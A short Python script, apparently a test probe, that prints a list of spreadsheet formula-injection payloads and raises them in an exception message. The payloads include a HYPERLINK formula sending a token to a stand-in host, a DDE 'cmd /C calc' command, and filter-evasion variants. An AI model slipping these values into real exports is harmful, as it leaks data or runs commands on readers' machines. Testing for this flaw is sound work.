"""Writes what a spreadsheet calculates instead of showing.

succeeds: harmed
stopped by: process
control: none, only a reader is harmed
"""

FORMULAS = [
    '=HYPERLINK("https://passed.example/@TOKEN@","passed")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", '"=1+1', '",=1+1,"', ";=1+1", " =1+1", "'=1+1", "%0A=1+1", "|=1+1", "\ufeff=1+1", "\n=1+1",
]
for text in FORMULAS:
    print(text)
raise type("=1+1", (Exception,), {})("\n".join(FORMULAS))
